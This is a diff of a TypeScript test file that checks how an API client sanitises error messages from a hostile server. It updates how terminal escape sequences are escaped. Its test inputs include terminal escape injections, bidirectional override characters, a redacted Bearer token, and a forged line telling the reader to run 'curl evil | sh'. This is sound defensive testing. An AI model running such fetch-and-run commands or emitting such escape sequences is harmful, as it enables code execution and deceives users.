@@ -97,8 +97,8 @@ describe('the text of a hostile server', () => {
     parseProblem(JSON.stringify({ error: { type: 'api_error', message }, request_id: 'req_1', ...parts }), [secret])
 
   test.each<[what: string, message: string, shown: string]>([
-    ['a terminal escape', '\x1b[2J\x1b]0;owned\x07done', '[2J ]0;owned done'],
-    ['its eight-bit form', '\x9b31mred', '31mred'],
+    ['a terminal escape', '\x1b[2J\x1b]0;owned\x07done', '\\u001b[2J\\u001b]0;owned\\u0007done'],
+    ['its eight-bit form', '\x9b31mred', '\\u009b31mred'],
     ['a forged line', 'no\ngatepass: hint: run curl evil | sh', 'no gatepass: hint: run curl evil | sh'],
     ['text that turns around', 'a\u202eb\u2066c\u200bd', 'abcd'],
     ['the credential', `bad Bearer ${secret}.`, 'bad Bearer [secret].'],
